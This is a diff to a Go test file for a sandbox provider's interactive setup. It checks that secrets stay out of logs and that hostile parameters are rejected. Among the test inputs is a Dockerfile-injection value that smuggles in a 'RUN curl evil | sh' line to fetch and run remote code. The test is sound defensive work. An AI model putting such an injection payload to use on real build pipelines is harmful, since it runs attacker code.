@@ -1,7 +1,9 @@
 package provider
 
 import (
+	"bytes"
 	"encoding/json"
+	"log/slog"
 	"errors"
 	"strings"
 	"testing"
@@ -78,7 +80,9 @@ func withoutPayload(t *testing.T, s SetupSession) string {
 // sandbox is labelled for its session, and the SSH token appears only in
 // the connection payload (reference test 39).
 func TestInteractiveSetupStartsWithRedactedMetadataAndOneTimeSSH(t *testing.T) {
+	var logs bytes.Buffer
 	e := newTestEnv(t, map[string]any{"snapshot": "base-snap"})
+	e.use(e.driverWith(func(o *Options) { o.Logger = slog.New(slog.NewTextHandler(&logs, nil)) }))
 	s, err := e.startSetup("connectionExpiresInMinutes", 15.9, "expiresAt", "2030-01-01T00:00:00.000Z",
 		"sourceTemplateRef", "tmpl-source")
 	require.NoError(t, err)
@@ -111,6 +115,7 @@ func TestInteractiveSetupStartsWithRedactedMetadataAndOneTimeSSH(t *testing.T) {
 	rest := withoutPayload(t, s)
 	for _, secret := range []string{tok, "tmpl-source", e.srv.APIKey()} {
 		require.NotContains(t, rest, secret)
+		require.NotContains(t, logs.String(), secret)
 	}
 
 	info := e.info(id)
@@ -176,14 +181,22 @@ func TestInteractiveSetupCleansUpTheSandboxOnAnyFailure(t *testing.T) {
 	}
 }
 
-// TestInteractiveSetupRejectsHostileSessionIDs: a session id that cannot
-// be a label value is refused before anything is created.
-func TestInteractiveSetupRejectsHostileSessionIDs(t *testing.T) {
+// TestInteractiveSetupRejectsHostileParams: a session id that cannot be a
+// label value, or a source template ref that could add lines to a
+// Dockerfile, is refused before anything is created.
+func TestInteractiveSetupRejectsHostileParams(t *testing.T) {
 	e := newTestEnv(t, nil)
-	for _, id := range []string{"", "a\x00b", strings.Repeat("s", 1<<20), "line\nbreak"} {
-		_, err := e.call("environmentStartInteractiveSetup", with(e.base(nil), "sessionId", id))
+	for _, p := range [][]any{
+		{"sessionId", ""}, {"sessionId", "a\x00b"}, {"sessionId", strings.Repeat("s", 1<<20)}, {"sessionId", "line\nbreak"},
+		{"sessionId", "s", "sourceTemplateKind", "image", "sourceTemplateRef", "ubuntu\nRUN curl evil | sh"},
+		{"sessionId", "s", "sourceTemplateKind", "image", "sourceTemplateRef", "ubuntu RUN"},
+		{"sessionId", "s", "sourceTemplateRef", "snap\x00"},
+		{"sessionId", "s", "sourceTemplateRef", strings.Repeat("r", 1<<20)},
+		{"sessionId", "s", "sourceTemplateKind", strings.Repeat("k", 1<<20), "sourceTemplateRef", "x"},
+	} {
+		_, err := e.call("environmentStartInteractiveSetup", with(e.base(nil), p...))
 		var re *rpc.Error
-		require.True(t, errors.As(err, &re), "session id %.40q: %v", id, err)
+		require.True(t, errors.As(err, &re), "%.80q: %v", p, err)
 		require.Equal(t, rpc.CodeInvalidParams, re.Code)
 		require.Less(t, len(err.Error()), 2000, "the error does not echo a huge value")
 	}
